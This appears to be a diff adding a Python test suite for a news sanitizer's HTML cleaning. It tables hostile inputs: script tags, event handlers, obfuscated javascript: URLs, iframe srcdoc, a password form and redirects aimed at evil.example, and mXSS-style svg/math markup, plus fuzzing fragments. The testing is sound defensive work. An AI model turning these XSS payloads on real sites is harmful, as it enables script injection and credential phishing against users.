@@ -1,0 +1,151 @@
+"""The sanitizing policy: a table of hostile inputs, then properties over generated HTML."""
+
+import html
+import re
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from tickerwire.news.sanitize import IFRAME_SANDBOX, TAGS, html_to_text, sanitize_html
+
+BASE = "https://news.example/2026/03/story.html"
+REL = 'rel="noopener noreferrer nofollow"'
+
+CASES = [
+    ("<p>Hi<script>alert(1)</script></p>", "<p>Hi</p>"),
+    ('<p onclick="alert(1)" onmouseover=x>Hi</p>', "<p>Hi</p>"),
+    (
+        '<img src="/a.jpg" onerror="alert(1)">',
+        '<img src="https://news.example/a.jpg" loading="lazy">',
+    ),
+    ('<a href="javascript:alert(1)">x</a>', f"<a {REL}>x</a>"),
+    ('<a href="JaVaScRiPt:alert(1)">x</a>', f"<a {REL}>x</a>"),
+    ('<a href="java\tscript:alert(1)">x</a>', f"<a {REL}>x</a>"),
+    ('<a href=" &#14;  javascript:alert(1)">x</a>', f"<a {REL}>x</a>"),
+    ('<a href="&#106;&#97;vascript:alert(1)">x</a>', f"<a {REL}>x</a>"),
+    ('<a href="&#x6A;avascript&#x3A;alert(1)">x</a>', f"<a {REL}>x</a>"),
+    ('<a href="jav&#x09;ascript:alert(1)">x</a>', f"<a {REL}>x</a>"),
+    ('<a href="vbscript:msgbox(1)">x</a>', f"<a {REL}>x</a>"),
+    ('<a href="/markets">x</a>', f'<a href="https://news.example/markets" {REL}>x</a>'),
+    ('<a href="mailto:desk@news.example">x</a>', f'<a href="mailto:desk@news.example" {REL}>x</a>'),
+    ('<img src="mailto:desk@news.example">', ""),
+    ('<img src="data:image/png;base64,iVBORw0KGgo=">', ""),
+    ('<iframe srcdoc="<script>alert(1)</script>"></iframe>', ""),
+    ('<iframe src="https://evil.example/embed/x"></iframe>', ""),
+    (
+        '<iframe src="https://www.youtube.com/embed/abc" srcdoc="x" onload="y">text</iframe>',
+        f'<iframe src="https://www.youtube.com/embed/abc" sandbox="{IFRAME_SANDBOX}"></iframe>',
+    ),
+    (
+        '<iframe src="http://player.vimeo.com/video/42" width="640px" height="x"></iframe>',
+        f'<iframe src="https://player.vimeo.com/video/42" width="640" sandbox="{IFRAME_SANDBOX}">'
+        "</iframe>",
+    ),
+    (
+        '<iframe src="https://youtube.com/embed/x" sandbox="allow-top-navigation"></iframe>',
+        f'<iframe src="https://youtube.com/embed/x" sandbox="{IFRAME_SANDBOX}"></iframe>',
+    ),
+    ('<form action="https://evil.example"><input name="pw"><button>Go</button></form>', ""),
+    ('<svg onload="alert(1)"><a href="javascript:x"><text>t</text></a></svg>ok', "ok"),
+    ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", ""),
+    ('<base href="https://evil.example/"><p>x</p>', "<p>x</p>"),
+    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', ""),
+    ("<style>body{display:none}</style><p>x</p>", "<p>x</p>"),
+    ('<div style="position:fixed;inset:0" class="overlay" id="o">x</div>', "x"),
+    ("<h1>Title</h1>", "<h2>Title</h2>"),
+    ("<!-- secret --><p>x</p>", "<p>x</p>"),
+    ("<object data='https://evil.example/x.swf'>fallback</object>", ""),
+    (
+        "<table><tr><td colspan=2 rowspan='evil' onclick=x>x</td></tr></table>",
+        '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>',
+    ),
+    ('<time datetime="2026-03-03" class="c">Tue</time>', '<time datetime="2026-03-03">Tue</time>'),
+]
+
+
+@pytest.mark.parametrize(("dirty", "clean"), CASES)
+def test_hostile_markup_is_reduced_to_the_policy(dirty: str, clean: str) -> None:
+    assert sanitize_html(dirty, base_url=BASE) == clean
+
+
+def test_srcset_keeps_only_safe_candidates() -> None:
+    dirty = '<img src="a.jpg" srcset="a.jpg 1x, javascript:alert(1) 2x, /b.jpg 800w">'
+    assert 'srcset="https://news.example/2026/03/a.jpg 1x, https://news.example/b.jpg 800w"' in (
+        sanitize_html(dirty, base_url=BASE)
+    )
+
+
+def test_relative_urls_are_dropped_without_a_base() -> None:
+    assert sanitize_html('<a href="/x">x</a><img src="y.png">') == f"<a {REL}>x</a>"
+
+
+def test_table_structure_survives() -> None:
+    assert sanitize_html("<table><tr><th>A</th><td colspan='2'>1</td></tr></table>") == (
+        '<table><tbody><tr><th>A</th><td colspan="2">1</td></tr></tbody></table>'
+    )
+
+
+def test_html_to_text_separates_paragraphs_with_blank_lines() -> None:
+    text = html_to_text("<p>One <b>bold</b></p><p>Two<br>lines</p><ul><li>a</li></ul>tail")
+    assert text == "One bold\n\nTwo\nlines\n\na\n\ntail"
+
+
+def test_html_to_text_keeps_table_cells_apart() -> None:
+    assert html_to_text("<table><tr><td>Open</td><td>101.5</td></tr></table>") == "Open 101.5"
+
+
+def test_html_to_text_skips_scripts_and_styles() -> None:
+    assert html_to_text("<p>a<script>x()</script><style>p{}</style></p>") == "a"
+
+
+def test_html_to_text_survives_very_deep_nesting() -> None:
+    assert html_to_text("<div>" * 20000 + "deep" + "</div>" * 20000) == "deep"
+
+
+FRAGMENTS = st.sampled_from(
+    [
+        "<p>", "</p>", "<a href='", "javascript:", "&#106;", "java\tscript:", "'>", "<img src=",
+        "onerror=alert(1)", " onload=x ", "<script>", "</script>", "<svg>", "<math>", "<iframe ",
+        "src=https://www.youtube.com/embed/x", "srcdoc=", "<style>", "<h1>", "<b>", "x", " ",
+        '"', "'", ">", "<", "&amp;", "/rel", "//host/p", "data:", "<table>", "<td colspan=2>",
+        "<!--", "-->", "http://[", "]", "<![CDATA[", "<form>", "<base href=", "<noscript>",
+        "<template>", "\x00",
+    ]
+)  # fmt: skip
+HTMLISH = st.lists(FRAGMENTS | st.text(max_size=5), max_size=30).map("".join)
+_TAG = re.compile(r"<([a-zA-Z][a-zA-Z0-9]*)")
+_ATTR = re.compile(r'\s([a-zA-Z_:][-a-zA-Z0-9_:.]*)(?:="([^"]*)")?')
+
+
+def _start_tags(output: str) -> list[str]:
+    return re.findall(r"<[a-zA-Z][^>]*>", output)
+
+
+@settings(max_examples=300, deadline=None)
+@given(HTMLISH, st.sampled_from([None, BASE]))
+def test_sanitizing_is_idempotent(dirty: str, base: str | None) -> None:
+    once = sanitize_html(dirty, base_url=base)
+    assert sanitize_html(once, base_url=base) == once
+
+
+@settings(max_examples=300, deadline=None)
+@given(HTMLISH)
+def test_output_has_only_allowed_tags_and_no_event_handlers(dirty: str) -> None:
+    output = sanitize_html(dirty, base_url=BASE)
+    assert {tag.lower() for tag in _TAG.findall(output)} <= TAGS
+    for tag in _start_tags(output):
+        assert not any(name.lower().startswith("on") for name, _ in _ATTR.findall(tag))
+
+
+@settings(max_examples=300, deadline=None)
+@given(HTMLISH)
+def test_every_url_in_the_output_is_http_or_mailto(dirty: str) -> None:
+    output = sanitize_html(dirty, base_url=BASE)
+    for tag in _start_tags(output):
+        for name, value in _ATTR.findall(tag):
+            url = html.unescape(value).strip().lower()
+            if name in ("href",):
+                assert url.startswith(("http://", "https://", "mailto:"))
+            if name in ("src",):
+                assert url.startswith(("http://", "https://"))
